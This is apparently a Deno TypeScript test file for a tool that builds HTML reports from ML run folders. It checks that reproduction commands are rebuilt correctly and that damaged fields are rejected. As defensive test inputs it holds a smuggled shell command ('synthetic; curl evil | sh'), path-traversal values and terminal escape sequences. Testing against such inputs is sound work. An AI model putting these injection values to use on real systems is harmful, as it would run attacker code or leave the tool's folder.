/** What the report reads out of a run folder: the commands that make it again, and files that are damaged, lie or are incomplete. */

import assert from "node:assert/strict";
import { RunError } from "../../run/errors.ts";
import { messageOf, UsageError } from "../../tasks/command.ts";
import { commands } from "../../tasks/report/commands.ts";
import { gather } from "../../tasks/report/facts.ts";
import { renderReport } from "../../tasks/report/page.ts";
import { readRunFiles } from "../../tasks/report/read/run_files.ts";
import { needs } from "../permissions.ts";
import { changed } from "../support/documents.ts";
import { inTemporary } from "../support/files.ts";
import { writeReportRun } from "../support/report_run.ts";
import { runTask } from "../support/task.ts";

const ignore = needs("read", "write", "ffi");

/** Whether an error is one that a task tells without a stack trace. */
const isRefusal = (error: unknown) => error instanceof RunError || error instanceof UsageError;

Deno.test({
  name: "the commands name every option that was in force, and no place of this machine",
  ignore,
  async fn() {
    await inTemporary(async (path) => {
      await writeReportRun(path);
      const [train, evaluate, visualize, , correspond] = commands(await readRunFiles(path)).map((command) =>
        command.replaceAll(/ \\\n +/g, " ")
      );
      assert.equal(
        train,
        "deno task train --variant cnn_ad --split 2 --seed 7 --select validation --steps 200 --batch 64 " +
          "--image-size 32 --normalization local-mean --learning-rate 0.01 --momentum 0.9 --weight-decay 0.00001 " +
          "--checkpoint-every 100 --init-scale 0.625 --convolution direct --data DATA --run RUN",
      );
      assert.equal(evaluate, "deno task evaluate RUN --select validation");
      assert.equal(
        visualize,
        "deno task visualize RUN --layer conv3 --filters 0,1,2,3,4,5 --top 3 --method guided --distinct-subjects " +
          "--controls 3 --select validation",
      );
      assert.equal(
        correspond,
        "deno task correspond RUN --layer conv3 --on test --minimum-support 3 --bins 10 --range quantiles " +
          "--smoothing 0.5 --statistic auc --permutations 4999 --seed 1 --select validation",
      );
    });
  },
});

/** A change to a field of a file, and the field that the error names. */
type Lie = [path: string, value: unknown, field?: string];

/** For each file of a run, its task, and fields that are missing or lie. */
const LIES: Record<string, [task: string, lies: Lie[]]> = {
  "run.json": ["train", [
    ["given.dataset", "synthetic; curl evil | sh"],
    ["given.select", "best"],
    ["dataset.kind", "real"],
    ["adapter.vendor", 1],
    ["versions.aulens", ["\x1b[2J"]],
  ]],
  "evaluation.json": ["evaluate", [
    ["selection", "best"],
    ["rule", "\x1b[2J"],
    ["optimistic", undefined],
    ["classNames", [1, 2, 3], "classNames.0"],
    ["images.validation", undefined],
    ["checkpoints", [{ step: 1, accuracy: "x" }], "checkpoints.0.accuracy"],
    ["chosen", undefined],
    ["test", undefined],
    ["test.subjects", undefined],
    ["test.accuracy", null],
    ["test.accuracyInterval", undefined],
    ["test.accuracyInterval.level", undefined],
    ["test.balancedAccuracy", undefined],
    ["test.macroF1", "0.5"],
    ["test.logLoss", undefined],
    ["test.expectedCalibrationError", undefined],
    ["test.perClass", [{ name: "a", support: 1 }], "test.perClass.0.predicted"],
    ["test.confusion", [[1, null]], "test.confusion.0.1"],
    ["test.confusion", [[1, 2]]],
    ["test.confusion", [[9, 1, 0], [0, 9, 1], [1, 0, 10]]],
  ]],
  "evaluation_on_other.json": ["evaluate", [
    ["testedOn", undefined],
    ["shareImages", undefined],
    ["step", undefined],
    ["compared", ["0"], "compared.0"],
    ["options", { seed: "\x1b[2J" }],
    ["test.balancedAccuracy", undefined],
  ]],
  "visualization/conv3/visualization.json": ["visualize", [
    ["layer", "../../.."],
    ["images", undefined],
    ["checkpoint.rule", undefined],
    ["checkpoint.compared", 3],
    ["options", { top: {} }],
    ["method", undefined],
    ["top", 0],
    ["receptiveField", undefined],
    ["control", undefined],
    ["control.structuralSimilarity", undefined],
    ["filters", [null], "filters.0"],
    ["filters.1.filter", 256],
    // A sheet's name is no way out of the folder.
    ["filters.1.sheet", "../../../run.json"],
    ["filters.1.selectivity", undefined],
    ["filters.1.hits", [null], "filters.1.hits.0"],
    ["filters.1.hits", undefined],
    ["filters.1.hits.0.activation", undefined],
  ]],
  "correspondence/conv3/correspondence.json": ["correspond", [
    ["images", undefined],
    ["on", "some"],
    ["options", undefined],
    ["options.bins", "10"],
    ["options.range", [1, 2, 3]],
    ["compared", [-1], "compared.0"],
    ["truthTest", [1], "truthTest.0"],
    ["units", [null], "units.0"],
    ["units.1.unit", undefined],
    ["units.1.className", undefined],
    ["units.1.present", undefined],
    ["units.1.inClass", undefined],
    ["units.1.mostExcited", [null], "units.1.mostExcited.0"],
    ["units.1.mostDivergent.0.filter", 256],
    ["units.1.truth.inside", undefined],
    ["units.1.truth.randomised", {}, "units.1.truth.randomised.inside"],
  ]],
  "correspondence/conv3/probe.json": ["correspond", [
    ["rule", undefined],
    ["auc", undefined],
    ["units", [null], "units.0"],
    ["units.0.images", undefined],
    ["units.1.unread", 7],
  ]],
};

Deno.test({
  name: "report: a field that is missing, or lies, is named with its file and the task that writes it",
  ignore,
  async fn() {
    await inTemporary(async (path) => {
      await writeReportRun(path);
      const evaluation = JSON.parse(await Deno.readTextFile(`${path}/evaluation.json`));
      await Deno.writeTextFile(
        `${path}/evaluation_on_other.json`,
        JSON.stringify({
          ...evaluation,
          trainedOn: "tfd",
          testedOn: "other",
          shareImages: false,
          step: 100,
          leftOut: [],
        }),
      );
      await renderReport(await gather(path));
      for (const [name, [task, lies]] of Object.entries(LIES)) {
        const before = await Deno.readTextFile(`${path}/${name}`);
        for (const [field, value, named = field] of lies) {
          await Deno.writeTextFile(`${path}/${name}`, changed(JSON.parse(before), field, value));
          const error = await gather(path).then(() => undefined, (error) => error);
          assert.ok(isRefusal(error), `${name}, ${field}: ${error?.stack ?? "was read"}`);
          const begin = `${path}/${name}: is not what ${task} writes: ${named}`;
          assert.ok(error.message.startsWith(begin), `${error.message}\nis not ${begin}`);
          assert.match(messageOf(error), new RegExp(`Remedy: .*deno task ${task}`));
        }
        for (const text of ["", "{", "[]", "null"]) {
          await Deno.writeTextFile(`${path}/${name}`, text);
          await assert.rejects(gather(path), (error) => isRefusal(error) && error.message.includes(name));
        }
        await Deno.writeTextFile(`${path}/${name}`, before);
      }
    });
  },
});

Deno.test({
  name: "report: a line of correspondence.csv whose filter is none, or whose number is none, is named",
  ignore,
  async fn() {
    await inTemporary(async (path) => {
      await writeReportRun(path);
      const name = `${path}/correspondence/conv3/correspondence.csv`;
      const [header, first, second, ...rest] = (await Deno.readTextFile(name)).split("\n");
      assert.match(second, /^4,"raised, ""quoted""",1,/);
      const lines: [string, RegExp][] = [
        [
          second.replace('",1,', '",999999999,'),
          /line 3\.filter is 999999999, expected a filter of conv3, 0 to 255/,
        ],
        [second.replace('",1,', '",-1,'), /line 3\.filter is -1/],
        [second.replace('",1,', '",0.5,'), /line 3\.filter is 0\.5/],
        [second.replace('",1,', '",1x,'), /line 3\.filter is "1x"/],
        [second.replace(/^4/, ""), /line 3\.unit is "", expected a whole number/],
        [second.replace(/,[^,]*$/, ""), /line 3\.direction is undefined, expected a number/],
      ];
      for (const [line, message] of lines) {
        await Deno.writeTextFile(name, [header, first, line, ...rest].join("\n"));
        await assert.rejects(gather(path), (error) => isRefusal(error) && message.test(error.message), line);
      }
      await Deno.writeTextFile(name, [header.replace(",kl,", ",kL,"), first, second, ...rest].join("\n"));
      await assert.rejects(gather(path), /its first line names no column kl/);
      await Deno.writeTextFile(name, "<svg/>");
      await assert.rejects(gather(path), /correspondence\.csv: is not what correspond writes: .* no column unit/);
    });
  },
});

Deno.test({
  name: "report: a word that a shell would obey is quoted in the commands to copy, whoever wrote it",
  ignore,
  async fn() {
    await inTemporary(async (path) => {
      await writeReportRun(path);
      const files = await readRunFiles(path);
      const given = { ...files.record.given, dataset: "synthetic; curl evil | sh" as never };
      const [train] = commands({ ...files, record: { ...files.record, given } });
      assert.match(train, /^deno task train 'synthetic; curl evil \| sh' /);
    });
  },
});

Deno.test({
  name: "report: a path that a terminal would obey is told without what it would obey",
  ignore: ignore || needs("run"),
  async fn() {
    await inTemporary(async (folder) => {
      const path = `${folder}/\x1b[31mrun`;
      await writeReportRun(path);
      const { code, stdout, stderr } = await runTask("report", path);
      assert.equal(code, 0, stderr);
      assert.match(stdout, /^report +.*\?\[31mrun\/report\.html/m);
      // deno-lint-ignore no-control-regex
      assert.doesNotMatch(stdout + stderr, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
    });
  },
});
